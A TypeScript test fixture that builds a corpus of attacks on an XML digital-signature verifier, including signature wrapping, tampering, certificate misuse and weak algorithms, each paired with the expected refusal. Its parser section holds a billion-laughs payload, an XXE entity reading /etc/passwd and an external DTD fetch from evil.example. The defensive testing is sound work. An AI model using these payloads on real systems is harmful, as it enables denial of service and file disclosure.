/**
 * The malicious-document corpus: each entry turns legitimately signed documents into an attack and names the
 * refusal it must get. Built from real signatures at run time (the PKI is made per run), so nothing here is a
 * canned byte string that could drift from what the signer produces.
 */
import type { SignatureRefusalCode } from '../../src/signature/index.js'
import { sampleRequestXml, signAs, signAsGost, type GostIdentity, type Identity, type TestPki, type GostTestPki } from '../../src/signature/testing/index.js'

export interface Attack {
  readonly name: string
  readonly document: string | Uint8Array
  readonly refusal: SignatureRefusalCode
}

const DS = 'http://www.w3.org/2000/09/xmldsig#'
const signatureOf = (xml: string): string => {
  const start = xml.indexOf('<ds:Signature')
  return xml.slice(start, xml.indexOf('</ds:Signature>') + '</ds:Signature>'.length)
}
const withoutSignature = (xml: string): string => xml.replace(signatureOf(xml), '')
const body = (xml: string): string => xml.slice(xml.indexOf('>') + 1, xml.lastIndexOf('</application>'))

const evilFields = sampleRequestXml({ familySize: 9, category: 'war_veterans' })

type Who = 'citizen' | 'otherCitizen' | 'impostorIssued' | 'expired' | 'revoked' | 'citizenAuth'

/** What the corpus needs of a PKI and its signer: the same attacks are built for RSA and for GOST 2015/512. */
export interface CorpusWorld<I> {
  readonly pki: Readonly<Record<Who, I>>
  readonly sign: (identity: I, xml: string, options?: { readonly canonicalization?: 'c14n' | 'c14n-com' | 'exc-c14n' | 'exc-c14n-com'; readonly referenceUri?: string }) => Promise<string>
  readonly signatureMethod: string
  readonly digestMethod: string
  /** A signature method of the other family, which the signer's key cannot have made. */
  readonly foreignMethod: { readonly name: string; readonly uri: string }
}

export const rsaWorld = (pki: TestPki): CorpusWorld<Identity> => ({
  pki,
  sign: signAs,
  signatureMethod: 'http://www.w3.org/2001/04/xmldsig-more#rsa-sha256',
  digestMethod: 'http://www.w3.org/2001/04/xmlenc#sha256',
  foreignMethod: {
    name: 'GOST 2015-512 signature method over an RSA key (the key cannot have made it)',
    uri: 'urn:ietf:params:xml:ns:pkigovkz:xmlsec:algorithms:gostr34102015-gostr34112015-512',
  },
})

export const gostWorld = (pki: GostTestPki): CorpusWorld<GostIdentity> => ({
  pki,
  sign: signAsGost,
  signatureMethod: 'urn:ietf:params:xml:ns:pkigovkz:xmlsec:algorithms:gostr34102015-gostr34112015-512',
  digestMethod: 'urn:ietf:params:xml:ns:pkigovkz:xmlsec:algorithms:gostr34112015-512',
  foreignMethod: { name: 'RSA-SHA256 signature method over a GOST key', uri: 'http://www.w3.org/2001/04/xmldsig-more#rsa-sha256' },
})

export const buildCorpus = async <I>(world: CorpusWorld<I>): Promise<readonly Attack[]> => {
  const { pki, sign: signAs } = world
  const signed = await signAs(pki.citizen, sampleRequestXml())
  const byId = await signAs(pki.citizen, sampleRequestXml({ id: 'orig' }), { referenceUri: '#orig' })
  const original = withoutSignature(byId)
  const sig = signatureOf(byId)
  const other = await signAs(pki.otherCitizen, sampleRequestXml())
  const otherCert = /<ds:X509Certificate>([^<]*)</.exec(other)?.[1] ?? ''

  return [
    // ── signature wrapping ──
    {
      name: 'a second application element outside the signed one (new root wraps both)',
      document: `<envelope>${evilFields}${signed}</envelope>`,
      refusal: 'signature_misplaced',
    },
    {
      name: 'signed element moved under another parent',
      document: `<envelope xmlns="urn:evil"><payload>${byId}</payload></envelope>`,
      refusal: 'signature_misplaced',
    },
    {
      name: 'evil root, original signed element hidden in ds:Object (XSW, reference #orig)',
      document: evilFields.replace('</application>', `${sig.replace('</ds:Signature>', `<ds:Object>${original}</ds:Object></ds:Signature>`)}</application>`),
      refusal: 'reference_not_root',
    },
    {
      name: 'duplicate ids: evil root copies Id="orig", original kept in ds:Object',
      document: evilFields
        .replace('<application ', '<application Id="orig" ')
        .replace('</application>', `${sig.replace('</ds:Signature>', `<ds:Object>${original}</ds:Object></ds:Signature>`)}</application>`),
      refusal: 'reference_not_root',
    },
    {
      name: 'duplicate ids: a second element inside the signed root carries the same id',
      document: byId.replace('<documents>', '<documents Id="orig">'),
      refusal: 'reference_not_root',
    },
    {
      name: 'reference to an id that is not the document root',
      document: await signAs(pki.citizen, sampleRequestXml().replace('<documents>', '<documents Id="docs">'), { referenceUri: '#docs' }),
      refusal: 'reference_not_root',
    },
    {
      name: 'a second signature appended',
      document: signed.replace('</application>', `${signatureOf(other)}</application>`),
      refusal: 'multiple_signatures',
    },
    {
      name: 'signature moved below a field',
      document: withoutSignature(signed).replace('</documents>', `${signatureOf(signed)}</documents>`),
      refusal: 'signature_misplaced',
    },
    {
      name: 'XPath transform that could cut fields out of the signed content',
      document: signed.replace(
        '<ds:Transform Algorithm="http://www.w3.org/2000/09/xmldsig#enveloped-signature"/>',
        '<ds:Transform Algorithm="http://www.w3.org/2000/09/xmldsig#enveloped-signature"/><ds:Transform Algorithm="http://www.w3.org/TR/1999/REC-xpath-19991116"><ds:XPath>not(self::familySize)</ds:XPath></ds:Transform>',
      ),
      refusal: 'unsupported_transform',
    },
    // ── tampering ──
    { name: 'field changed after signing', document: signed.replace('<familySize>4<', '<familySize>5<'), refusal: 'digest_mismatch' },
    {
      name: 'applicant IIN swapped after signing',
      document: signed.replace('iin="871008401427"', 'iin="760212350620"'),
      refusal: 'digest_mismatch',
    },
    {
      name: 'comment inserted into a field (c14n with comments, NCALayer default)',
      document: signed.replace('<familySize>4<', '<familySize><!-- -->4<'),
      refusal: 'digest_mismatch',
    },
    {
      name: 'whitespace inserted between fields (inclusive c14n)',
      document: signed.replace('</service>\n', '</service>\n\n   '),
      refusal: 'digest_mismatch',
    },
    {
      name: 'whitespace inserted between fields (exclusive c14n)',
      document: (await signAs(pki.citizen, sampleRequestXml(), { canonicalization: 'exc-c14n' })).replace('</service>\n', '</service>\n\n   '),
      refusal: 'digest_mismatch',
    },
    {
      name: 'unused namespace declaration added (visible to inclusive c14n)',
      document: signed.replace('<application xmlns=', '<application xmlns:evil="urn:evil" xmlns='),
      refusal: 'digest_mismatch',
    },
    {
      name: 'SignatureValue altered',
      document: signed.replace(/<ds:SignatureValue>(.)/, (_m, a: string) => `<ds:SignatureValue>${a === 'A' ? 'B' : 'A'}`),
      refusal: 'signature_invalid',
    },
    {
      name: "another citizen's certificate pasted into KeyInfo",
      document: signed.replace(/<ds:X509Certificate>[^<]*</, `<ds:X509Certificate>${otherCert}<`),
      refusal: 'signature_invalid',
    },
    // ── certificates ──
    { name: 'valid signature from a certificate of another IIN', document: other, refusal: 'iin_mismatch' },
    { name: 'certificate from an impostor CA copying the NCA name', document: await signAs(pki.impostorIssued, sampleRequestXml()), refusal: 'untrusted_issuer' },
    { name: 'expired certificate', document: await signAs(pki.expired, sampleRequestXml()), refusal: 'certificate_expired' },
    { name: 'revoked certificate', document: await signAs(pki.revoked, sampleRequestXml()), refusal: 'certificate_revoked' },
    { name: 'AUTH-only certificate used to sign', document: await signAs(pki.citizenAuth, sampleRequestXml()), refusal: 'wrong_key_usage' },
    // ── algorithms ──
    {
      name: world.foreignMethod.name,
      document: signed.replace(world.signatureMethod, world.foreignMethod.uri),
      refusal: 'unsupported_algorithm',
    },
    {
      name: 'GOST 34.310-2004 signature method (legacy NCA GOST, conventions not established)',
      document: signed.replace(world.signatureMethod, 'http://www.w3.org/2001/04/xmldsig-more#gost34310-gost34311'),
      refusal: 'unsupported_algorithm',
    },
    {
      name: 'HMAC signature method (a shared secret proves nothing)',
      document: signed.replace(world.signatureMethod, 'http://www.w3.org/2000/09/xmldsig#hmac-sha1'),
      refusal: 'unsupported_algorithm',
    },
    {
      name: 'SHA-1 digest',
      document: signed.replace(world.digestMethod, 'http://www.w3.org/2000/09/xmldsig#sha1'),
      refusal: 'unsupported_algorithm',
    },
    // ── parser attacks ──
    {
      name: 'billion laughs',
      document:
        '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">' +
        '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>' +
        signed.replace('<service>housing-queue', '<service>&lol3;'),
      refusal: 'dtd_forbidden',
    },
    {
      name: 'external entity (XXE)',
      document: `<?xml version="1.0"?><!DOCTYPE application [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>${signed.replace('housing-queue', '&xxe;')}`,
      refusal: 'dtd_forbidden',
    },
    {
      name: 'parameter entity in a lower-case doctype',
      document: `<!doctype application [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]>${signed}`,
      refusal: 'dtd_forbidden',
    },
    { name: 'not well-formed', document: signed.replace('</documents>', '</document>'), refusal: 'malformed_xml' },
    { name: 'invalid UTF-8', document: Uint8Array.from([0x3c, 0x61, 0x3e, 0xc3, 0x28, 0x3c, 0x2f, 0x61, 0x3e]), refusal: 'malformed_xml' },
    { name: 'declared non-UTF-8 encoding', document: `<?xml version="1.0" encoding="windows-1251"?>${signed}`, refusal: 'malformed_xml' },
    { name: 'unsigned document', document: sampleRequestXml(), refusal: 'no_signature' },
    {
      name: 'signature in a look-alike namespace only',
      document: signed.replaceAll(DS, 'http://www.w3.org/2000/09/xmldsig#evil'),
      refusal: 'no_signature',
    },
    {
      name: 'signed document with an unexpected element',
      document: await signAs(pki.citizen, sampleRequestXml().replace('</documents>', '</documents>\n  <priority>1</priority>')),
      refusal: 'invalid_document',
    },
    {
      name: 'signed document with a second familySize',
      document: await signAs(pki.citizen, sampleRequestXml().replace('</familySize>', '</familySize>\n  <familySize>9</familySize>')),
      refusal: 'invalid_document',
    },
    {
      name: 'signed document with a field in a foreign namespace',
      document: await signAs(pki.citizen, sampleRequestXml().replace('<familySize>4</familySize>', '<e:familySize xmlns:e="urn:evil">4</e:familySize>')),
      refusal: 'invalid_document',
    },
    {
      name: 'signed document whose root is not an application',
      document: await signAs(pki.citizen, `<applicationX xmlns="urn:kezek:application:1">${body(sampleRequestXml())}</applicationX>`),
      refusal: 'invalid_document',
    },
  ]
}

/** 50 MB of well-formed XML, made in memory. */
export const fiftyMegabytes = (): string => {
  const filler = `<document kind="scan" sha256="${'a'.repeat(64)}"/>`
  return `<application xmlns="urn:kezek:application:1"><documents>${filler.repeat(Math.ceil((50 * 1024 * 1024) / filler.length))}</documents></application>`
}
